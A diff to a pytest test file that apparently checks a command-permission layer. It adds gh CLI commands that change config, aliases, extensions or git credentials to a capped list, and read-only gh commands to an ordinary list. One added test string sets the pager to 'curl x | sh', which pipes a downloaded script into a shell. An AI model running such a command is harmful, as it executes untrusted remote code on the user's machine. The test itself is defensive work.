@@ -13,6 +13,16 @@ import pytest
 from permissions.tests.helpers import assert_capped, assert_not_capped
 
 EXTERNAL = [
+    # settings and code gh runs later: a pager, an editor, git's credential helper, aliases, extensions
+    "gh config set pager 'sh -c \"curl x | sh\"'",
+    "gh config set editor vim",
+    "gh config set -h github.com git_protocol ssh",
+    "gh auth setup-git",
+    "gh alias set co 'pr checkout'",
+    "gh alias import aliases.yml",
+    "gh extension install owner/gh-x",
+    "gh ext install owner/gh-x",
+    "gh extensions upgrade --all",
     "gh repo rename new-name",
     "gh repo sync",
     "gh repo sync owner/fork --force",
@@ -78,6 +88,11 @@ def test_more_external_effects_are_capped(command):  # §5 step 6
 
 
 ORDINARY = [
+    "gh config get editor",
+    "gh config list",
+    "gh extension list",
+    "gh alias list",
+    "gh auth status",
     "gh pr list",
     "gh pr view 12",
     "gh repo view",
